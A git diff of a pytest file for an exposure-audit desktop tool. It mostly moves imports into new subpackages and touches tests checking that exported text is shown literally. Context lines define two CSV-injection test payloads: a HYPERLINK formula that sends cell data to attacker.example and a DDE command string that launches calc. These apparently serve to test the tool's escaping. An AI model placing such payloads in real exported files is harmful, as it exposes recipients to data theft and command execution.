@@ -14,14 +14,13 @@ from typing import Any
 
 import pytest
 
-from exposure_audit.cli import run
+from exposure_audit.audit.store import Audit
+from exposure_audit.cli.main import run
 from exposure_audit.escaping import csv_safe, safe_link, terminal_safe
-from exposure_audit.evidence import build_letter, save_identity, suggest_account_ids
-from exposure_audit.letters import EvidenceRow, Identity, render_eml, render_text
-from exposure_audit.store import Audit
-
-from exportkit import as_json, face
-from scanning import enrolled_audit, run_scan
+from exposure_audit.rights.evidence import build_letter, save_identity, suggest_account_ids
+from exposure_audit.rights.letters import EvidenceRow, Identity, render_eml, render_text
+from tests.support.exportkit import as_json, face
+from tests.support.scanning import enrolled_audit, run_scan
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 COMMAND = "+cmd|' /C calc'!A0"
@@ -205,7 +204,7 @@ def test_export_text_is_plain_text_in_the_app(qapp: Any, tmp_path: Path) -> None
     from PySide6.QtCore import Qt
     from PySide6.QtWidgets import QLabel, QMessageBox
 
-    from exposure_audit.scan import Progress
+    from exposure_audit.scan.pipeline import Progress
     from ui import errors
     from ui.app import create_window
 
@@ -229,7 +228,7 @@ def test_export_text_is_plain_text_in_the_app(qapp: Any, tmp_path: Path) -> None
 def test_tooltips_show_export_text_literally(qapp: Any, hostile_audit: Path) -> None:
     from PySide6.QtCore import Qt
 
-    from ui.models import FindingsModel
+    from ui.models.findings import FindingsModel
 
     with Audit.open(hostile_audit) as audit:
         rows = audit.findings()
